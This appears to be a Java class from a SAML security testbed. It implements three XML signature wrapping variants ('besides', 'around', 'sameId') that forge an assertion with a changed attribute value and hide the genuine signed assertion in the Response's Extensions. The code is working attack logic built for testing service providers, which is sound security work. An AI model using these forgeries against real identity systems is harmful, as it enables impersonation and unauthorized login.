package org.authmeter.testbed.sp;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import net.shibboleth.utilities.java.support.xml.SerializeSupport;
import org.authmeter.testbed.saml.SamlObjects;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

/**
 * Signature wrapping ("On Breaking SAML", Somorovsky et al., USENIX Security 2012): the signed
 * assertion stays in the document, where the signature finds it, and a forged one takes its place.
 */
final class Wrapping {
  private static final String SAML = "urn:oasis:names:tc:SAML:2.0:assertion";
  private static final String DSIG = "http://www.w3.org/2000/09/xmldsig#";

  private Wrapping() {}

  /** The forged assertion bears no signature; the signed one hides in the Response's Extensions. */
  static byte[] besides(byte[] response) throws Exception {
    Document document = parse(response);
    Element signed = assertion(document);
    Element forged = forge(signed);
    forged.removeChild(forged.getElementsByTagNameNS(DSIG, "Signature").item(0));
    hide(document, signed, forged);
    return write(document);
  }

  /** The forged assertion bears the signature, which refers to the hidden one. */
  static byte[] around(byte[] response) throws Exception {
    Document document = parse(response);
    Element signed = assertion(document);
    Element forged = forge(signed);
    signed.removeChild(signed.getElementsByTagNameNS(DSIG, "Signature").item(0));
    hide(document, signed, forged);
    return write(document);
  }

  /** The forged assertion has the ID of the signed one too. */
  static byte[] sameId(byte[] response) throws Exception {
    Document document = parse(response);
    Element signed = assertion(document);
    String id = signed.getAttribute("ID");
    Element forged = forge(signed);
    forged.setAttribute("ID", id);
    hide(document, signed, forged);
    return write(document);
  }

  private static Element forge(Element signed) {
    Element forged = (Element) signed.cloneNode(true);
    forged.setAttribute("ID", "_forged");
    var values = forged.getElementsByTagNameNS(SAML, "AttributeValue");
    values.item(0).setTextContent("test002");
    return forged;
  }

  private static void hide(Document document, Element signed, Element forged) {
    Element response = document.getDocumentElement();
    response.replaceChild(forged, signed);
    Element extensions =
        document.createElementNS("urn:oasis:names:tc:SAML:2.0:protocol", "saml2p:Extensions");
    extensions.appendChild(signed);
    response.insertBefore(
        extensions, response.getElementsByTagNameNS(SAML, "Issuer").item(0).getNextSibling());
  }

  private static Element assertion(Document document) {
    return (Element) document.getElementsByTagNameNS(SAML, "Assertion").item(0);
  }

  private static Document parse(byte[] xml) throws Exception {
    return SamlObjects.parsers().parse(new ByteArrayInputStream(xml));
  }

  private static byte[] write(Document document) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    SerializeSupport.writeNode(document, out);
    return out.toByteArray();
  }
}
